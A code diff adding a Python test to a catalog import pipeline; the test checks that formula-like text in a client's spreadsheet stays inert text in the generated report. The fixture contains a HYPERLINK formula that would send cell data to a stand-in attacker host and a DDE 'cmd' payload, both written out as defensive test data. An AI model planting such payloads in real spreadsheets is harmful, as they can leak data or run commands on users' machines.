@@ -146,3 +146,20 @@ def test_tenant_settings_from_the_database_steer_the_import(db, tmp_path):
         repository.tenant(s, "acme").settings = {"catalog": {"colums": {}}}
     broken = db(tmp_path / "eigen.xlsx")
     assert broken.status == "failed" and broken.error.error_class == "invalid_settings"
+
+
+def test_text_that_looks_like_a_formula_stays_text_in_the_report(db, tmp_path):
+    """A client's cells holding "=HYPERLINK(…)" as text must not come back as live formulas."""
+    wb = Workbook()
+    for row in (["PIM-ID", "Bezeichnung"], ['=HYPERLINK("http://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0"]):
+        wb.active.append(row)
+    for cell in wb.active[2]:
+        cell.data_type = "s"  # text in the client's file, as Excel keeps a cell typed '=…
+    wb.save(tmp_path / "injection.xlsx")
+    assert db(tmp_path / "injection.xlsx").status == "ok"
+    with session(db.url) as s, s.begin():
+        [pending] = imports_without_report(s, repository.tenant(s, "acme").id)
+        report_path = attach_report(s, pending, tmp_path / "injection.xlsx", tmp_path / "reports")
+    cells = load_workbook(report_path).active[2]
+    assert [c.data_type for c in cells[1:3]] == ["s", "s"]
+    assert cells[2].value == "=cmd|' /C calc'!A0"
